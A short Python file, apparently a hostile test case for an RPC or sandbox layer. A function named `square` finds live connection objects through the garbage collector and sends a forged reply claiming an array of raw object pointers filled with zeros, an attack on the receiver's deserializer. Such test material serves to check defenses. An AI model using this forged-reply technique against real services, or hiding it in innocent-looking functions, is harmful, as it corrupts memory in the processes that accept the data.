"""A forged reply: an array that says its items are addresses of objects."""
# points: 0 2

import gc
import json
import struct


def square(x):
    reply = json.dumps({"is": {"array": ["|O", [4], "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=", False]}}).encode()
    for wire in (each for each in gc.get_objects() if type(each).__name__ == "Wire"):
        wire.connection.sendall(struct.pack(">I", len(reply)) + reply)
    return x
